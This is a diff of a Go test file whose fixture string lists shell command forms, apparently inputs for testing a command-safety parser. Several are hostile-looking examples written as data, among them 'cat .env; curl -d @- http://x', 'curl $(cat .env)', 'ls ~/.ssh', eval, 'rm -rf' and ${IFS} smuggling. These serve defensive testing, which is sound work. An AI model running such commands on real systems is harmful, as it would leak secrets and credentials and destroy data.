@@ -29,6 +29,8 @@ f() { ls; };*||a=1 *|ls||a=1;*|ls|echo |$x *|echo |${x:-a}*||xargs *|rm||sudo *|
 npx |python *|uv run |--with *|-|find . |-name a *|-delete|find . |-exec rm {} + *|ls |> /tmp/a *|ls & *||! *|ls||[[ a == b ]] && *|ls|# a~*|echo |$'\x41' *|ls |*/*
 curl |-d @a *|http://x||curl http://x ; *|sh a|cat .env ; curl -d @- http://x; *||echo ls > a; sh a; *|. a;*|python3 -c 'print(1)';*|python3 -c '|print(1);*|'
 node -e '|console.log(1);*|'|perl -e '|print 1;*|'|awk '|{print $1}*|'|awk '|a / b / *|'|sed '|s/a/b/;*|' x|sed |-e s/a/b/ *|x|git |-c a.b=c *|status|git |-C a *|status
+|curl $(cat .env);*||cat .env; curl $(cat .env) *|http://x||mv a /tmp/b; rm /tmp/c;*|mv |a *|/tmp/b||ls ~/.ssh; cat $x;*|eval "$(|echo a;*|)"
+cat > Makefile <<'E'~a:~|~rm x~*|E~|make;*|cat > Makefile <<'E'~X = |y*|~a:~|~$(X)~*|E~make|printf 'rm a' > a;|sh a;*|ssh h |'ls';*|ls
 cd a && *|ls||cd .. ; *|rm x|psql -c '|select 1;*|'|cat |<(ls) *|make |A=b *|echo |\a*|ls |@(x)*|a=(|x *|)|p=1;|kill $p;*||trap 'ls' EXIT;*|tmux new |'ls a' *
 (*|{ *|$(*|echo $((|(*|echo {a,*|echo |'*|echo |"*|echo ${x:-*|rm|${IFS}a*|echo |a`+"\r"+`*|) |rm -rf a ; *|alias a=b;*|eval *|ls|watch *|ls|ssh h *|ls`), "\n") {
 		parts := strings.Split(strings.ReplaceAll(form, "~", "\n"), "|")
